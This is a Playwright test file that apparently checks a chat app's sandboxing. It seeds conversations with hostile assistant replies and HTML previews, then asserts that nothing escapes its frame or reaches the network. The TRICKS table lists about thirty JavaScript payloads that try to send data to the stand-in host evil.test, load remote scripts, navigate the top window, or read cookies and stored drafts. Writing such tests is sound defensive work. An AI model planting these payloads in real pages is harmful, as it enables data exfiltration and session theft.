"""Every hostile reply in a real browser, on a page and in previews: nothing runs, leaves or is read."""

from collections.abc import Callable
from typing import Any

import pytest
from django.conf import settings
from playwright.sync_api import Page

from chat.models import Conversation, Message, Role
from controlpanel.models import User
from deployments.planning.power import Role as PanelRole
from tests.chat.markdown.hostile import TABLE
from tests.deployments.pages.states import States

from .conftest import Tab, person

INNER = (
    """<iframe srcdoc="<script>new RTCPeerConnection({}); parent.postMessage(1, '*')<\\/script>"></iframe>"""
)
# Each tries one way out of its frame and notes what came of it; "out" would be a success.
TRICKS = {
    "parent document": "parent.document.body.innerHTML = 'taken'; out()",
    "parent name": "parent.HIT = 1; out()",
    "top navigation": "top.location = 'https://evil.test/top'; setTimeout(out, 50)",
    "top navigation by link": "const a = document.createElement('a'); a.href = 'https://evil.test/a';"
    " a.target = '_top'; document.body.append(a); a.click()",
    "self navigation": "location = 'https://evil.test/self'",
    "fetch": "fetch('https://evil.test/f').then(out, no)",
    "fetch of the panel": "fetch('/deployments/ready/', { credentials: 'include' }).then(out, no)",
    "beacon": "navigator.sendBeacon('https://evil.test/b') ? no('sent or dropped') : no()",
    "socket": "new WebSocket('wss://evil.test/').onopen = out",
    "event source": "new EventSource('https://evil.test/e').onopen = out",
    "image": "const i = new Image(); i.onload = out; i.src = 'https://evil.test/i.png'",
    "stylesheet": "document.head.innerHTML += '<link rel=stylesheet href=https://evil.test/s.css>'",
    "script": "const s = document.createElement('script'); s.src = 'https://evil.test/s.js'; s.onload = out;"
    " document.head.append(s)",
    "import": "import('https://evil.test/m.js').then(out, no)",
    "worker": "new Worker('https://evil.test/w.js').onmessage = out",
    "worker that fetches": "new Worker(URL.createObjectURL(new Blob([\"fetch('https://evil.test/wf')"
    ".then(() => postMessage(1))\"]))).onmessage = out",
    "frame": "const f = document.createElement('iframe'); f.src = 'https://evil.test/fr'; f.onload = no;"
    " document.body.append(f)",
    "form": "document.body.innerHTML += '<form method=post action=https://evil.test/p><input name=a></form>';"
    " document.forms[0].submit()",
    "popup": "open('https://evil.test/w') ? out() : no()",
    "cookies": "document.cookie ? out(document.cookie) : no()",
    "storage of the panel": "localStorage.getItem('draft') ? out() : no()",
    "peer connection": "new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.test' }] }); out()",
    "peer connection of a frame": "const f = document.createElement('iframe'); document.body.append(f);"
    " new f.contentWindow.RTCPeerConnection(); out()",
    "peer connection of a written frame": f"addEventListener('message', out);"
    f" document.body.innerHTML += `{INNER}`",
    "peer connection in a shadow": "addEventListener('message', out);"
    " const d = document.createElement('div'); document.body.append(d);"
    f" d.attachShadow({{ mode: 'closed' }}).innerHTML = `{INNER}`",
    "peer connection in a written shadow": "addEventListener('message', out);"
    f" document.body.setHTMLUnsafe(`<div><template shadowrootmode=closed>{INNER}</template></div>`)",
    "peer connection in a shadow of the parser": "addEventListener('message', out);"
    f" document.write(`<div><template shadowrootmode=closed>{INNER}</template></div>`)",
    "service worker": "navigator.serviceWorker.register('/static/js/page.js').then(out, no)",
    "notification": "Notification.requestPermission().then((said) => (said === 'granted' ? out() : no()))",
    "modal": "alert('x'); no()",
    "meta refresh": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url=https://evil.test/m\">'",
}  # fmt: skip


def trick(code: str) -> str:
    return (
        "```html\n<!doctype html><html><head><title>t</title></head><body><script>\n"
        "window.said = 'nothing'; const out = () => { window.said = 'OUT'; };"
        " const no = () => { window.said = 'no'; };\n"
        f"try {{ {code} }} catch (error) {{ no(error); }}\n"
        "</script></body></html>\n```\n"
    )


@pytest.fixture
def hostile(states: States) -> tuple[Conversation, Conversation]:
    """A conversation of hostile replies, and one of previews that try to get out."""
    states.ready()
    anna = person(PanelRole.MEMBER)
    texts = [text.encode("utf-8", "replace").decode().replace("\0", "") for text in TABLE.values()]
    return _talk(anna, texts), _talk(anna, [trick(code) for code in TRICKS.values()])


def _talk(owner: User, replies: list[str]) -> Conversation:
    row = Conversation.objects.create(owner=owner, deployment_slug="ready", title="Hostile")
    above = None
    for text in replies:
        above = Message.objects.create(conversation=row, parent=above, role=Role.ASSISTANT, text=text)
    row.head = above
    row.save(update_fields=["head"])
    return row


def watched(opened: Tab) -> list[str]:
    """Requests that went anywhere but to the panel; they are cut off here as well."""
    left: list[str] = []

    def look(route: Any) -> None:
        if route.request.url.startswith((opened.url, "data:", "blob:")):
            route.continue_()
        else:
            left.append(route.request.url)
            route.abort()

    opened.page.context.route("**/*", look)
    return left


def unharmed(page: Page, address: str) -> None:
    assert page.url == address
    assert page.evaluate(
        "[window.HIT, document.title.includes('chat'), !!document.getElementById('ask')]"
    ) == [
        None,
        True,
        True,
    ]
    assert len(page.context.pages) == 1
    names = {cookie["name"] for cookie in page.context.cookies()}
    assert settings.SESSION_COOKIE_NAME in names


def test_nothing_of_a_hostile_reply_runs_or_leaves(
    tab: Callable[..., Tab], hostile: tuple[Conversation, Conversation]
) -> None:
    opened = tab(PanelRole.MEMBER)
    left = watched(opened)
    path = f"/deployments/ready/chat/{hostile[0].public_id}/"
    page = opened.open(path)
    page.locator("html.scripted").wait_for()
    assert page.locator(".turn").count() == len(TABLE)
    page.evaluate("for (const turn of document.querySelectorAll('.turn')) turn.scrollIntoView()")
    for link in page.locator(".md a").all()[:5]:
        link.hover()
    unharmed(page, opened.url + path)
    assert left == []
    assert page.locator(".md :is(img, iframe, script, style, form, svg, input, object)").count() == 0
    assert opened.complaints == []


def test_a_preview_cannot_get_out(
    tab: Callable[..., Tab], hostile: tuple[Conversation, Conversation]
) -> None:
    """The first opens as people open it; the others stand in copies of its frame, all at once."""
    opened = tab(PanelRole.MEMBER)
    left = watched(opened)
    path = f"/deployments/ready/chat/{hostile[1].public_id}/"
    page = opened.open(path)
    page.locator("html.scripted").wait_for()
    page.evaluate("localStorage.setItem('draft', 'secret')")
    page.locator("[data-page]").first.click()
    page.locator("#preview iframe").wait_for()
    page.evaluate(
        """() => { const first = document.querySelector('#preview iframe');
        for (const link of [...document.querySelectorAll('[data-page]')].slice(1)) {
            const frame = first.cloneNode();
            frame.src = link.href.replace('panel/', '');
            document.body.append(frame);
        } }"""
    )
    page.wait_for_timeout(1500)  # for what comes late: timers, redirects, workers
    said = [frame.evaluate("window.said") for frame in page.frames[1:] if "/previews/" in frame.url]
    assert (
        len(said) >= len(TRICKS) - 4
    )  # those that tried to go elsewhere stand on the browser's own error page
    assert "OUT" not in said, [name for name, one in zip(TRICKS, said, strict=False) if one == "OUT"]
    assert "no" in said
    unharmed(page, opened.url + path)
    assert left == []
